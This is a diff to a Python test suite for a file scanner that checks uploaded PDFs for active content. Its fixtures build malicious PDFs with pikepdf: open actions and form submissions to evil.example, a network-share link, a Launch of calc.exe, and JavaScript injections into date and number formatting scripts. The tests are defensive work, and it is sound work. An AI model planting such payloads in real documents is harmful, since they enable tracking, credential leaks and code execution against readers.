@@ -216,9 +216,114 @@ def test_a_title_that_only_mentions_javascript_is_harmless():
     assert look(samples.pdf_bytes(document), "a.pdf").pages == 1
 
 
-def test_a_link_in_a_pdf_is_harmless():
-    document = _open_action(S=pikepdf.Name.URI, URI="https://www.example.lg.jp/")
+def _uri():
+    return pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.example.lg.jp/")
+
+
+def _link():
+    document = samples.new_pdf()
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=_uri())
+    document.pages[0].Annots = pikepdf.Array([document.make_indirect(link)])
+    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
+    return document
+
+
+def test_a_link_that_is_pressed_is_harmless_also_on_the_page_that_opens_first():
+    assert look(samples.pdf_bytes(_link()), "a.pdf").pages == 1
+
+
+def _opening_page(action):
+    document = samples.new_pdf()
+    document.pages[0].AA = document.make_indirect(pikepdf.Dictionary(O=document.make_indirect(action)))
+    return document
+
+
+def _stream(**more):
+    document = samples.new_pdf()
+    stream = document.make_stream(b"", **more)
+    document.pages[0].Contents = stream
+    return document
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        lambda: _open_action(S=pikepdf.Name.URI, URI="https://evil.example/"),
+        lambda: _open_action(S=pikepdf.Name.GoTo, D="x", Next=pikepdf.Array([_uri()])),
+        lambda: _open_action(
+            S=pikepdf.Name.GoToR, F="\\\\evil.example\\share\\x.pdf", D=[0, pikepdf.Name.Fit]
+        ),
+        lambda: _open_action(S=pikepdf.Name.SubmitForm, F="https://evil.example/"),
+        lambda: _opening_page(_uri()),
+        lambda: _stream(F="https://evil.example/x"),
+        lambda: _stream(Subtype=pikepdf.Name.Form, Ref=pikepdf.Dictionary(F="other.pdf", Page=0)),
+    ],
+    ids=["uri", "next", "share", "submit", "page", "stream", "reference"],
+)
+@pytest.mark.parametrize("packed", [False, True])
+def test_a_pdf_that_leads_elsewhere_by_itself_is_refused(document, packed):
+    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
+    refused = refusal(samples.pdf_bytes(document(), object_stream_mode=mode), "a.pdf")
+    assert (refused.reason, refused.params["what"]) == (Reason.ACTIVE_CONTENT, "outside")
+
+
+def _field(script, *, stream=False, **action):
+    document = samples.new_pdf()
+    written = document.make_stream(script.encode()) if stream else script
+    acting = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=written, **action)
+    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="day", AA=pikepdf.Dictionary(F=acting, K=acting))
+    form = pikepdf.Dictionary(Fields=[document.make_indirect(field)], XFA=pikepdf.Array([]))
+    document.Root.AcroForm = form
+    return samples.pdf_bytes(document)
+
+
+FORMATS = [
+    'AFDate_FormatEx("yyyy/mm/dd");',
+    'AFDate_KeystrokeEx("yyyy年mm月dd日")',
+    'AFNumber_Format(0, 0, 0, 0, "\\u00a5", true);',
+    "AFNumber_Keystroke(2, 0, 0, 0, '', false);",
+    "AFPercent_Format(2, 0);",
+    "AFSpecial_Format(0);\n",
+    'AFSimple_Calculate("SUM", new Array ("a.1", "a.2"));',
+    "AFRange_Validate(true, 0, true, 100);",
+]
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("script", FORMATS)
+def test_an_official_form_that_sets_out_dates_and_numbers_is_taken(script, stream):
+    assert look(_field(script, stream=stream), "a.pdf").pages == 1
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'AFDate_FormatEx("yyyy"); app.alert(1)',
+        'AFDate_FormatEx("yyyy" + app.launchURL("http://evil.example"))',
+        'AFDate_FormatEx("a\\"); app.alert(1); (\\"")',
+        "AFNumber_Format(this.submitForm())",
+        'AFSimple_Calculate("SUM", new Array(eval("1")))',
+        "AFExecuteThisScript(1)",
+        'AFDate_FormatEx("' + "y" * 2000 + '")',
+        'app.alert("AFNumber_Format(0);")',
+        "",
+    ],
+)
+def test_a_script_that_does_anything_else_is_refused(script):
+    assert refusal(_field(script), "a.pdf").params["what"] == "javascript"
+
+
+def test_a_script_that_goes_on_with_another_action_is_looked_at_whole():
+    content = _field(FORMATS[0], Next=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe"))
+    assert refusal(content, "a.pdf").reason is Reason.ACTIVE_CONTENT
+
+
+def test_an_empty_xfa_is_none():
+    document = samples.new_pdf()
+    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b""))
     assert look(samples.pdf_bytes(document), "a.pdf").pages == 1
+    document.Root.AcroForm.XFA = pikepdf.Array(["template", document.make_stream(b"<template/>")])
+    assert refusal(samples.pdf_bytes(document), "a.pdf").params["what"] == "xfa"
 
 
 def test_a_pdf_with_a_password_is_encrypted():
@@ -254,7 +359,6 @@ def test_a_picture_cut_off_is_broken(make):
 
 
 @pytest.mark.parametrize(("width", "height"), [(10_000, 9_000), (60_000, 60_000)])
-@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
 def test_a_picture_of_too_many_pixels_is_refused_before_decoding(width, height):
     assert refusal(samples.huge_png(width, height), "a.png").reason is Reason.PICTURE_BOMB
 
